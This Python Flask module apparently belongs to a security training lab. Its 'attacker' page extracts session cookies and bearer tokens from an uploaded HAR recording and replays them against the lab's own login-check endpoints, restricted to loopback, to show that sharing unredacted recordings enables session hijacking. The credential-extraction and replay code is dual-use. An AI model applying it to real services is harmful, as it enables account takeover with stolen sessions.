"""The attacker reads a shared recording: upload a HAR file (the lab's own export, or one saved
from DevTools), and every credential in it is replayed against the lab — a session cookie
against GET /api/session/me, a bearer token against GET /api/jwt/me. The lab's own answers are
the verdict: "logged in as alice", or refused. This is how uploaded HAR files with live sessions
turned into break-ins (the 2023 support-system breaches); a redacted recording replays nothing.

The replay goes from this attacker app to the lab on loopback only (the lab's own port), never
anywhere else, with a short timeout; nothing from the file is stored beyond the answer.
"""
import json
import re
import urllib.error
import urllib.request

from flask import Blueprint, current_app, jsonify, render_template, request
from flask_babel import gettext as _, lazy_gettext as _l

TITLE = _l("Replay a shared recording (HAR)")
bp = Blueprint("har", __name__)
MAX_HAR = 5 * 1024 * 1024  # a recording of one lab page is far smaller
_COOKIE_PAIR = re.compile(r"(?:^|;\s*)([^=;\s]+)=([^;]*)")


def credentials(har, session_cookie):
    """The distinct session cookies and bearer tokens a HAR file's requests carried."""
    cookies, bearers = [], []
    entries = har.get("log", {}).get("entries", []) if isinstance(har, dict) else []
    for entry in entries if isinstance(entries, list) else []:
        request_part = entry.get("request", {}) if isinstance(entry, dict) else {}
        for header in request_part.get("headers", []) if isinstance(request_part, dict) else []:
            if not isinstance(header, dict):
                continue
            name, value = str(header.get("name", "")).lower(), str(header.get("value", ""))
            if name == "cookie":
                for key, val in _COOKIE_PAIR.findall(value):
                    if key == session_cookie and val and val not in cookies:
                        cookies.append(val)
            elif name == "authorization" and value.lower().startswith("bearer "):
                token = value[7:].strip()
                if token and token not in bearers:
                    bearers.append(token)
        for cookie in request_part.get("cookies", []) if isinstance(request_part, dict) else []:
            if isinstance(cookie, dict) and cookie.get("name") == session_cookie:
                value = str(cookie.get("value", ""))
                if value and value not in cookies:
                    cookies.append(value)
    return cookies[:10], bearers[:10]


def _ask_the_lab(path, headers):
    """(status, JSON answer) of one GET to the lab on loopback."""
    url = f"http://127.0.0.1:{current_app.config['LAB_PORT']}{path}"
    req = urllib.request.Request(url, headers=dict(headers, Accept="application/json"))
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(req, timeout=5) as response:
            return response.status, json.loads(response.read(65536) or b"null")
    except urllib.error.HTTPError as exc:
        try:
            return exc.code, json.loads(exc.read(65536) or b"null")
        except ValueError:
            return exc.code, None
    except (OSError, ValueError):
        return 0, None


def _shown(secret):
    return secret[:6] + "…" + secret[-4:] if len(secret) > 14 else "…"


@bp.get("/har")
def index():
    """The upload form."""
    host = request.host.split(":")[0]
    return render_template("attacker/har.html", cross_site=host != "localhost")


@bp.post("/har/replay")
def replay():
    """Replay every credential found in the uploaded HAR against the lab; the lab answers."""
    raw = request.files.get("har")
    data = raw.read(MAX_HAR + 1) if raw else request.get_data()[:MAX_HAR + 1]
    if not data or len(data) > MAX_HAR:
        return jsonify({"error": "invalid_request",
                        "message": _("Send a HAR file (JSON, at most 5 MB).")}), 400
    try:
        har = json.loads(data)
    except (ValueError, RecursionError):
        return jsonify({"error": "invalid_request",
                        "message": _("That is not a HAR file: it is not JSON.")}), 400
    name = current_app.extensions["lab_app"].config["SESSION_COOKIE_NAME"]
    cookies, bearers = credentials(har, name)
    results = []
    for value in cookies:
        status, body = _ask_the_lab("/api/session/me", {"Cookie": f"{name}={value}"})
        user = (body or {}).get("user") if isinstance(body, dict) else None
        results.append({"kind": "session cookie", "credential": _shown(value), "status": status,
                        "user": user.get("username") if isinstance(user, dict) else None,
                        "message": (body or {}).get("message") if isinstance(body, dict) else None})
    for token in bearers:
        status, body = _ask_the_lab("/api/jwt/me", {"Authorization": f"Bearer {token}"})
        user = (body or {}).get("user") if isinstance(body, dict) else None
        results.append({"kind": "bearer token", "credential": _shown(token), "status": status,
                        "user": user.get("username") if isinstance(user, dict) else None,
                        "message": (body or {}).get("message") if isinstance(body, dict) else None})
    return jsonify({"found": {"session_cookies": len(cookies), "bearer_tokens": len(bearers)},
                    "results": results,
                    "logged_in": any(r["status"] == 200 for r in results)})


ENTRY = (bp, TITLE)
